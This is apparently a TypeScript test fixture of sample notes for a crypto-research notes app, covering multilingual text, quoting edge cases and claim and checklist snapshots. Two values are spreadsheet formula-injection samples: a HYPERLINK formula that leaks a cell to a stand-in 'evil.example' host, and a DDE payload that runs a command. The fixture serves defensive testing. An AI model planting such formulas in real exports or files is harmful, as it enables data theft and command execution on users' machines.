/**
 * HAND-MADE notes for the notes tests, in the shape `TickerlensDb.addNote` stores (utils/db/records.ts):
 * Chinese and English words, quotes with commas, double quotes and line breaks, a quote that
 * begins with a spreadsheet formula (what a hostile post could hold), a claim list and a checklist
 * snapshot as the card saves them. Not real posts.
 */
import type { NoteRecord } from '../../../utils/db/records';
import type { MarkdownWords } from '../../../utils/notes/markdown';
import type { NoteWords } from '../../../utils/notes/view';

const T0 = Date.UTC(2026, 11, 1, 9, 30);

export const NOTES: NoteRecord[] = [
  {
    id: 1,
    uid: '0b7e3a52-5a0c-4c55-9d7f-2f2d6c1e8a01',
    assetId: 'cg:bittensor',
    assetName: 'Bittensor',
    assetSymbol: 'TAO',
    text: '子网排放还在增长，注意 "dTAO" 之后的解锁。\n第二行, with a comma',
    tags: ['L1', 'AI', '观察'],
    createdAt: T0,
    updatedAt: T0 + 60_000,
    capture: {
      quote: 'Bitcoin holds while $TAO runs.\n比特币横盘，"TAO" 领涨, 不是吗？',
      url: 'https://x.com/someone/status/1?ref=a,b',
      detected: '$TAO',
      priceUsd: 361.24,
      priceSource: 'coingecko',
      priceAt: T0 - 30_000,
      checklist: {
        assetId: 'cg:bittensor',
        at: T0,
        score: 2,
        boxes: [
          { box: 'revenue', verdict: 'pass', evidence: '30 天收入 $1.2M' },
          { box: 'sink', verdict: 'pass', override: { verdict: 'pass', reason: 'staking, "needed"' } },
          { box: 'supply', verdict: 'unknown' },
          { box: 'liquidity', verdict: 'fail', evidence: 'no buybacks' },
          { box: 'governance', verdict: 'unknown' },
        ],
      },
    },
  },
  {
    id: 2,
    uid: '5f1c9d0e-8b3a-4a7e-a1c2-9e8d7f6a5b02',
    assetId: 'cg:hyperliquid',
    assetName: 'Hyperliquid',
    assetSymbol: 'HYPE',
    text: '',
    tags: [],
    createdAt: T0 + 3_600_000,
    updatedAt: T0 + 3_600_000,
    capture: {
      quote: '=HYPERLINK("https://evil.example/?leak="&A1,"click me") no VC, 28% airdrop',
      url: 'https://x.com/HyperliquidX',
      detected: '@HyperliquidX',
      claim: 'no-vc',
      priceUsd: null,
      claims: [
        {
          claim: 'no-vc',
          verdict: 'agrees',
          reason: 'The unlock schedule lists no allocation to private-sale investors.',
        },
        { claim: 'airdrop', value: 28, verdict: 'agrees' },
      ],
    },
  },
  {
    id: 3,
    uid: 'c3d2e1f0-1111-4222-8333-444455556603',
    assetId: '',
    text: '-1+1 and @SUM(A1) and +cmd|"/C calc"!A0',
    tags: ['risk'],
    createdAt: T0 + 7_200_000,
    updatedAt: T0 + 7_200_000,
  },
];

export const WORDS: NoteWords = {
  noAsset: 'No asset',
  stale: 'out of date',
  claim: (id) => ({ 'no-vc': 'No VC', airdrop: 'Airdrop' })[id as 'no-vc'] ?? id,
  verdict: (v) => v,
  box: (b) => b,
  boxVerdict: (v) => v,
};

/** The Markdown export's words: English, with plain number formats a test can spell out. */
export const MD_WORDS: MarkdownWords = {
  ...WORDS,
  title: 'Tickerlens notes',
  exported: (time) => `Exported ${time}`,
  tags: 'Tags',
  priceThen: 'Price then',
  priceNow: 'Price now',
  claimsThen: 'Claims then',
  checklistThen: 'Checklist then',
  source: 'Source',
  time: (ms) => new Date(ms).toISOString(),
  usd: (x) => `$${x}`,
  pct: (x) => `${x > 0 ? '+' : ''}${x.toFixed(1)}%`,
};
